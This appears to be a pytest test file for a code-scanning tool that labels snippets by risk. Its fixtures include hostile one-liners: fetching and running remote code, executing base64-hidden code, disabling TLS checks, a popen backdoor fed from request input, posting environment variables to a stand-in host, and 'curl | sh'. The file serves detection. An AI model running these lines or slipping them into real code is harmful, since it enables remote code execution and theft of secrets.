import pytest

from posthouse.inspection.facts import Kind
from posthouse.inspection.reading.code import code_facts


@pytest.mark.parametrize(
    ("code", "kind"),
    [
        ("exec(urlopen('https://a.example').read())", Kind.FETCH_RUN),
        ("exec(base64.b64decode('eA=='))", Kind.HIDDEN_RUN),
        ("requests.get(u, verify=False)", Kind.TLS_OFF),
        ("os.popen(request.args.get('q'))", Kind.BACKDOOR),
        ("requests.post('https://a.example', data=dict(os.environ))", Kind.SEND_SECRET),
    ],
)
def test_what_code_does_is_told(code: str, kind: Kind) -> None:
    assert kind in [fact.kind for fact in code_facts(code, lambda _: None)]


def test_commands_in_code_are_read_by_the_shells_reader() -> None:
    read: list[str] = []
    code_facts("import os\nos.system('curl a.example | sh')", read.append)
    assert read == ["curl a.example | sh"]
    assert code_facts("print('curl a.example | sh')", read.append) == []
